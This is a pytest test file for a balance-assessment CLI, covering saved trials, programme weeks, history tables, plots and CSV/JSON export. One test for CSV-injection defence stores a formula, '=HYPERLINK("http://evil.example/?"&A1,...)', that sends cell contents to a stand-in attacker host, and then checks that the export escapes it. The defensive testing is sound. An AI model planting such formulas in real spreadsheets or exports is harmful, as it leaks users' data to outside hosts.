"""`balance history`, `programme start`, `export` and saving an analysis as a user meets them: argparse built with
add_commands, real analyses saved to a temporary database (balance.history.save, with the CLI's words), the
printed table, words, PNG, CSV and JSON checked.
"""

from __future__ import annotations

import argparse
import csv
import json
import random
import re
from datetime import date, timedelta
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from balance.cli.history import add_commands, add_save_options, reference_lines, save_options, save_words
from balance.errors import StoreError, UsageError
from balance.history.export import EXPORT_COLUMNS
from balance.history.model import Conditions
from balance.history.save import SaveOptions
from balance.spreadsheet import safe_cell

from .test_progress import LEFT_AFTER, LEFT_BEFORE, RIGHT, START, half_document
from .test_store import real_document, relabel


def parser() -> argparse.ArgumentParser:
    p = argparse.ArgumentParser(prog="balance")
    sub = p.add_subparsers(dest="command", required=True)
    add_commands(sub)
    a = sub.add_parser("analyze")  # as the lead's `balance analyze` will take the save options
    a.add_argument("clip", type=Path)
    add_save_options(a)
    return p


def save_analysis(
    doc: dict[str, object],
    *,
    name: str,
    week: int | None,
    db: Path,
    recorded_on: date | None = None,
    eyes: str = "",
    surface: str = "",
    footwear: str = "",
    notes: str = "",
) -> str:
    """Save as `balance analyze --name ...` does, and return the line it prints."""
    conditions = Conditions(eyes, surface, footwear)
    return save_words(doc, SaveOptions(name, week, recorded_on, conditions, notes), str(db))


def run(capsys: pytest.CaptureFixture[str], *argv: str | Path) -> str:
    args = parser().parse_args([str(a) for a in argv])
    assert args.handler(args) == 0
    return capsys.readouterr().out


@pytest.mark.slow  # the pose model on the cut halves of the synthetic clips (half_document)
def test_six_week_history_prints_exports_and_plots_as_constructed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = tmp_path / "history.db"
    out = run(capsys, "programme", "start", "Sam", "--weeks", "6", "--start", "2024-03-04", "--db", db)
    assert out.startswith("Sam: 6-week programme from 2024-03-04")
    for week in range(1, 7):
        on = START + timedelta(days=7 * (week - 1) + 2)
        left = LEFT_BEFORE if week <= 2 else LEFT_AFTER
        for clip, half in ((left, 0), (left, 1), (RIGHT, 0), (RIGHT, 1)):
            doc = relabel(half_document(clip, half, tmp_path), f"Sam-week{week}")
            message = save_analysis(doc, name="Sam", week=None, db=db, recorded_on=on, eyes="open", surface="floor")
            assert message == f"Saved 1 trial to Sam's history ({on.isoformat()}, week {week}) in {db}"
    again = save_analysis(doc, name="sam", week=None, db=db, recorded_on=on)
    assert again.startswith("Not saved again: this clip") and "already in Sam's history, from 2024-04-10" in again

    png = tmp_path / "charts" / "progress.png"
    text = run(capsys, "history", "Sam", "--db", db, "--plot", png)
    lines = text.splitlines()
    assert lines[0].startswith("Sam: the 6-week programme that started 2024-03-04 has finished")
    rows = [line.split() for line in lines if re.match(r"\d{4}-\d\d-\d\d ", line)]
    assert len(rows) == 24
    assert [int(r[1]) for r in rows] == [w for w in range(1, 7) for _ in range(4)]
    assert [r[2] for r in rows[:4]] == ["left", "left", "right", "right"]
    assert all(r[3] == "14.9+" and r[5] == "%leg/s" for r in rows)  # held to the clip's end; sway unit shown
    assert all(line.endswith("[eyes open, floor]") for line in lines if re.match(r"\d{4}-", line))
    trend_lines = [line.strip() for line in lines if re.match(r"  (left|right) leg: sway velocity", line)]
    assert len(trend_lines) == 2
    assert re.fullmatch(
        r"left leg: sway velocity -\d+\.\d\d %leg/s \(-\d+ %\) from week 1 to week 6, beyond the \d+\.\d\d %leg/s "
        r"MDC: real improvement",
        trend_lines[0],
    )
    assert trend_lines[1].startswith("right leg: sway velocity +0.00 %leg/s (+0 %) from week 1 to week 6, within")
    assert trend_lines[1].endswith("MDC: no real change")
    sway_sym = [line for line in lines if "): sway velocity left" in line]
    assert len(sway_sym) == 6
    assert all("below the 90 % threshold: the left leg is weaker" in line for line in sway_sym[:2])
    assert all("within the 90 % threshold: symmetric" in line for line in sway_sym[2:])
    assert lines[-1] == f"Plot: {png}"

    with Image.open(png) as image:
        assert image.format == "PNG" and image.size == (1200, 1100)
        pixels = np.asarray(image.convert("RGB")).reshape(-1, 3)
    assert png.stat().st_size > 20_000
    for colour in ((31, 119, 180), (255, 127, 14)):  # the left (blue) and right (orange) leg lines are drawn
        assert (np.abs(pixels.astype(int) - colour).sum(axis=1) < 10).sum() > 200

    run(capsys, "export", "Sam", "--csv", tmp_path / "sam.csv", "--db", db)
    with (tmp_path / "sam.csv").open() as fh:
        table = list(csv.DictReader(fh))
    assert tuple(table[0]) == EXPORT_COLUMNS and len(table) == 24
    assert [int(r["week"]) for r in table] == [int(r[1]) for r in rows]
    assert {r["sway_unit"] for r in table} == {"%leg/s"} and {r["eyes"] for r in table} == {"open"}

    out = run(capsys, "export", "Sam", "--json", tmp_path / "sam.json", "--db", db)
    assert out == f"Exported 24 trial(s) of Sam to {tmp_path / 'sam.json'}\n"
    document = json.loads((tmp_path / "sam.json").read_text())
    assert document["programme"] == {"person": "Sam", "start_date": "2024-03-04", "weeks": 6}
    assert len(document["trials"]) == 24 and "observed" in document["trials"][0]["metrics"]
    verdicts = {(t["leg"], t["metric"]): t["verdict"] for t in document["trends"]}
    assert verdicts[("left", "sway_velocity")] == "improvement"
    assert verdicts[("right", "sway_velocity")] == "no detectable change"
    assert [a["asymmetric"] for a in document["asymmetry"] if a["metric"] == "sway_velocity"] == [True] * 2 + [
        False
    ] * 4


def test_programme_start_numbers_sessions_saved_without_a_week(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = tmp_path / "h.db"
    doc = real_document()
    message = save_analysis(doc, name="Kim", week=None, db=db, recorded_on=date(2024, 5, 8))
    assert "no programme week (give --week, or: balance programme start 'Kim' --weeks 6)" in message
    text = run(capsys, "history", "Kim", "--db", db)
    assert "Kim: no programme" in text and "1 trial(s) have no programme week" in text
    run(capsys, "programme", "start", "kim", "--weeks", "4", "--start", "2024-05-01", "--db", db)
    text = run(capsys, "history", "Kim", "--db", db)
    [row] = [line.split() for line in text.splitlines() if line.startswith("2024-05-08")]
    assert row[1] == "2"  # 8 May is in the second week from 1 May
    explicit = save_analysis(relabel(doc, "x"), name="Kim", week=1, db=db, recorded_on=date(2024, 5, 20))
    assert "(2024-05-20, week 1)" in explicit  # an explicit --week wins over the programme's count


def test_save_options_of_analyze_feed_save_analysis(tmp_path: Path) -> None:
    argv = ["analyze", "clip.mp4", "--name", "Sam", "--week", "2", "--date", "2024-03-13", "--eyes", "closed"]
    args = parser().parse_args([*argv, "--surface", "foam", "--footwear", "barefoot", "--db", str(tmp_path / "h.db")])
    options = save_options(args)
    assert options is not None
    message = save_words(real_document(), options, args.db)
    assert message.startswith("Saved 1 trial to Sam's history (2024-03-13, week 2)")
    for bad in (["--date", "13/03/2024"], ["--eyes", "shut"], ["--week", "two"]):
        with pytest.raises(SystemExit):
            parser().parse_args(["analyze", "clip.mp4", *bad])
    # The ranges are the library's: checked when the options are made, before anything is analysed.
    for bad, words in (
        (["--name", "Sam", "--week", "0"], "week 0 is outside 1-52"),
        (["--week", "3"], "a week needs a name"),
        (["--name", " "], "the person's name is empty"),
    ):
        with pytest.raises(UsageError, match=words):
            save_options(parser().parse_args(["analyze", "clip.mp4", *bad]))
    assert save_options(parser().parse_args(["analyze", "clip.mp4"])) is None


def test_wrong_names_files_and_options_are_one_line_errors(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "h.db"
    save_analysis(real_document(), name="Sam", week=1, db=db, recorded_on=START)
    with pytest.raises(StoreError, match=r"no one called 'Kim' in .*h\.db \(it has: Sam\)"):
        run(capsys, "history", "Kim", "--db", db)
    missing = tmp_path / "typo.db"
    with pytest.raises(StoreError, match="there is no history database at"):
        run(capsys, "export", "Sam", "--csv", tmp_path / "x.csv", "--db", missing)
    assert not missing.exists() and not (tmp_path / "x.csv").exists()
    junk = tmp_path / "junk.db"
    junk.write_bytes(random.Random(1).randbytes(4096))
    with pytest.raises(StoreError) as info:
        run(capsys, "history", "Sam", "--db", junk)
    assert "\n" not in str(info.value) and "not a balance history database" in str(info.value)
    for argv in (
        ["export", "Sam", "--db", str(db)],  # neither --csv nor --json
        ["export", "Sam", "--csv", "a.csv", "--json", "a.json"],
        ["programme", "start", "Sam", "--weeks", "6", "--start", "next monday"],
    ):
        with pytest.raises(SystemExit):
            parser().parse_args(argv)
    with pytest.raises(UsageError, match="0 weeks is not a programme length"):
        run(capsys, "programme", "start", "Sam", "--weeks", "0", "--db", db)


def test_csv_export_neutralises_formulas_but_keeps_numbers(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """CSV injection (OWASP): text starting with = + - @ tab or CR opens as text, not as a formula."""
    db = tmp_path / "h.db"
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    save_analysis(
        real_document(),
        name=evil,
        week=1,
        db=db,
        recorded_on=START,
        surface="foam",  # one of four words now: a formula cannot be stored as a surface
        footwear="@SUM(A1:A9)",
        notes="-2+3",
    )
    out = tmp_path / "evil.csv"
    run(capsys, "export", evil, "--csv", out, "--db", db)
    [row] = list(csv.DictReader(out.open()))
    assert row["person"] == "'" + evil
    assert (row["surface"], row["footwear"], row["notes"]) == ("foam", "'@SUM(A1:A9)", "'-2+3")
    assert float(row["sway_velocity"]) > 0 and float(row["hold_s"]) > 0  # numbers stay numbers
    assert row["date"] == START.isoformat() and row["leg"] == "left"
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}cmd") == f"'{start}cmd"
    assert (safe_cell("Sam"), safe_cell(-1.5), safe_cell(None), safe_cell("a=b")) == ("Sam", -1.5, None, "a=b")


def test_age_eyes_and_surface_are_saved_and_give_the_age_reference(tmp_path: Path) -> None:
    db = tmp_path / "h.db"
    argv = ["analyze", "clip.mp4", "--name", "Sam", "--date", "2024-03-13", "--age", "52", "--eyes", "open"]
    args = parser().parse_args([*argv, "--surface", "floor", "--db", str(db)])
    options = save_options(args)
    assert options is not None
    assert (options.birth_year, options.conditions) == (1972, Conditions("open", "floor"))
    doc = real_document()
    save_words(doc, options, args.db)
    from balance.history.store import Store

    with Store(db) as store:
        assert store.birth_year("Sam") == 1972
        [row] = store.trials("Sam")
    assert row.conditions == Conditions("open", "floor")
    [head, line] = reference_lines(doc, args)
    assert head.startswith("Age reference (Springer et al. 2007") and "best of three trials of up to 45 s" in head
    trial = doc["trials"][0]
    ends = "held to the end of the test" if trial["ended_by"] != "touch_down" else "below the average"
    assert line.startswith(f"  left leg, best hold {trial['hold_s']:.1f} s") and ends in line and "50-59" in line
    foam = parser().parse_args(["analyze", "clip.mp4", "--age", "52", "--eyes", "open", "--surface", "foam"])
    assert "no published age reference for single-leg stance on foam" in reference_lines(doc, foam)[1]
    assert reference_lines(doc, parser().parse_args(["analyze", "clip.mp4"])) == []
    with pytest.raises(SystemExit):
        parser().parse_args(["analyze", "clip.mp4", "--surface", "sand"])
    with pytest.raises(UsageError, match="age 200 is outside 1-120"):
        save_options(parser().parse_args(["analyze", "clip.mp4", "--name", "Sam", "--age", "200"]))
